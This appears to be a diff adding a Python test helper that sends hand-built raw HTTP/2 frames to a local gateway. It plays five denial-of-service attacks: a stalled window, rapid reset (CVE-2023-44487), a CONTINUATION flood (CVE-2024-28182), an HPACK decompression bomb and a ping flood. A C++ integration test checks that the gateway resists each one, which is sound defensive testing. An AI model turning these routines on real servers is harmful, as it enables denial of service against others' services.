@@ -1,0 +1,205 @@
+#!/usr/bin/python3
+"""HTTP/2 attacks played with raw frames against a gateway on 127.0.0.1.
+
+Each command prints what the gateway did, one word and a detail, for the
+C++ test that runs it (tests/integration/http2_test.cpp):
+
+  stall PORT PATH          a client that keeps its window shut after asking
+  rapid-reset PORT N       N streams opened and reset at once (CVE-2023-44487)
+  continuation PORT N      a head sent as N CONTINUATION frames (CVE-2024-28182)
+  hpack-bomb PORT N        a 3 KiB field stored once, referenced N times
+  ping-flood PORT N        N PINGs from a client that does not read
+"""
+import socket
+import struct
+import sys
+import time
+
+import hpack
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DEADLINE = 30.0  # seconds any command waits at most
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def settings(**values):
+    codes = {"window": 4, "max_streams": 3}
+    return frame(4, 0, 0, b"".join(struct.pack(">HI", codes[k], v) for k, v in values.items()))
+
+
+def request_block(encoder, path, port, extra=()):
+    fields = [(":method", "GET"), (":path", path), (":scheme", "http"),
+              (":authority", "127.0.0.1:%d" % port)] + list(extra)
+    return encoder.encode(fields)
+
+
+class reader:
+    """Reads frames until a stop condition or the deadline."""
+
+    def __init__(self, sock):
+        self.sock = sock
+        self.buf = b""
+        self.sock.settimeout(0.5)
+
+    def frames(self, until):
+        end = time.monotonic() + until
+        while time.monotonic() < end:
+            while len(self.buf) >= 9:
+                n = int.from_bytes(self.buf[:3], "big")
+                if len(self.buf) < 9 + n:
+                    break
+                kind, flags = self.buf[3], self.buf[4]
+                stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
+                payload = self.buf[9:9 + n]
+                self.buf = self.buf[9 + n:]
+                yield kind, flags, stream, payload
+            try:
+                data = self.sock.recv(1 << 16)
+            except socket.timeout:
+                continue
+            except ConnectionResetError:
+                yield None, 0, 0, b"reset"
+                return
+            if not data:
+                yield None, 0, 0, b"eof"
+                return
+            self.buf += data
+
+
+def connect(port):
+    s = socket.create_connection(("127.0.0.1", port))
+    s.sendall(PREFACE + settings())
+    return s
+
+
+def goaway_or_end(r):
+    for kind, _, _, payload in r.frames(DEADLINE):
+        if kind == 7:  # GOAWAY
+            code = int.from_bytes(payload[4:8], "big")
+            return "goaway %d" % code
+        if kind is None:
+            return payload.decode()
+    return "nothing"
+
+
+def stall(port, path):
+    s = socket.create_connection(("127.0.0.1", port))
+    s.sendall(PREFACE + settings(window=0))
+    enc = hpack.Encoder()
+    s.sendall(frame(1, 0x5, 1, request_block(enc, path, port)))  # END_STREAM | END_HEADERS
+    r = reader(s)
+    got_head = False
+    for kind, flags, stream, payload in r.frames(DEADLINE):
+        if kind == 4 and stream == 0 and not flags & 1:
+            s.sendall(frame(4, 1, 0))  # ACK their SETTINGS
+        if kind == 1 and stream == 1:
+            got_head = True
+        if kind == 3 and stream == 1:
+            return "rst %d head=%s" % (int.from_bytes(payload, "big"), got_head)
+        if kind == 7:
+            return "goaway %d" % int.from_bytes(payload[4:8], "big")
+        if kind is None:
+            return payload.decode()
+    return "nothing"
+
+
+def rapid_reset(port, n):
+    s = connect(port)
+    enc = hpack.Encoder()
+    out = []
+    for i in range(n):
+        stream = 1 + 2 * i
+        out.append(frame(1, 0x5, stream, request_block(enc, "/reset", port)))
+        out.append(frame(3, 0, stream, struct.pack(">I", 8)))  # RST_STREAM CANCEL
+    try:
+        s.sendall(b"".join(out))
+    except (BrokenPipeError, ConnectionResetError):
+        pass
+    return goaway_or_end(reader(s))
+
+
+def continuation(port, n):
+    s = connect(port)
+    enc = hpack.Encoder()
+    block = request_block(enc, "/c", port)
+    out = [frame(1, 0x1, 1, block)]  # END_STREAM, no END_HEADERS
+    filler = enc.encode([("x-filler", "a")])
+    out += [frame(9, 0, 1, filler) for _ in range(n)]
+    try:
+        s.sendall(b"".join(out))
+    except (BrokenPipeError, ConnectionResetError):
+        pass
+    return goaway_or_end(reader(s))
+
+
+def hpack_bomb(port, n):
+    s = connect(port)
+    enc = hpack.Encoder()
+    # Store one 3 KiB field in the table (4 KiB by default), then name it by
+    # index n times: a few bytes on the wire, n * 3 KiB decoded.
+    first = enc.encode([(":method", "GET"), (":path", "/bomb"), (":scheme", "http"),
+                        (":authority", "127.0.0.1:%d" % port), ("x-bomb", "b" * 3000)])
+    index = bytes([0x80 | 62])  # the newest dynamic entry
+    block = first + index * n
+    # In frames of at most 16 KiB: HEADERS then CONTINUATIONs.
+    chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
+    out = []
+    for i, c in enumerate(chunks):
+        last = i == len(chunks) - 1
+        flags = (0x4 if last else 0) | (0x1 if i == 0 else 0)
+        out.append(frame(1 if i == 0 else 9, flags, 1, c))
+    s.sendall(b"".join(out))
+    r = reader(s)
+    for kind, flags, stream, payload in r.frames(DEADLINE):
+        if kind == 4 and stream == 0 and not flags & 1:
+            s.sendall(frame(4, 1, 0))
+        if kind == 1 and stream == 1:
+            d = hpack.Decoder()
+            d.max_allowed_table_size = 65536
+            try:
+                fields = dict(d.decode(payload))
+                return "status %s" % fields.get(":status", "?")
+            except Exception as e:  # a head we cannot decode alone: report it
+                return "head (%s)" % type(e).__name__
+        if kind == 3 and stream == 1:
+            return "rst %d" % int.from_bytes(payload, "big")
+        if kind == 7:
+            return "goaway %d" % int.from_bytes(payload[4:8], "big")
+        if kind is None:
+            return payload.decode()
+    return "nothing"
+
+
+def ping_flood(port, n):
+    s = connect(port)
+    s.settimeout(DEADLINE)
+    ping = frame(6, 0, 0, b"12345678")
+    sent = 0
+    batch = ping * 4096
+    try:
+        while sent < n:
+            s.sendall(batch)
+            sent += 4096
+    except (BrokenPipeError, ConnectionResetError, socket.timeout):
+        pass
+    return goaway_or_end(reader(s)) + " after %d" % sent
+
+
+def main():
+    cmd, port = sys.argv[1], int(sys.argv[2])
+    arg = sys.argv[3] if len(sys.argv) > 3 else ""
+    result = {
+        "stall": lambda: stall(port, arg),
+        "rapid-reset": lambda: rapid_reset(port, int(arg)),
+        "continuation": lambda: continuation(port, int(arg)),
+        "hpack-bomb": lambda: hpack_bomb(port, int(arg)),
+        "ping-flood": lambda: ping_flood(port, int(arg)),
+    }[cmd]()
+    print(result)
+
+
+if __name__ == "__main__":
+    main()
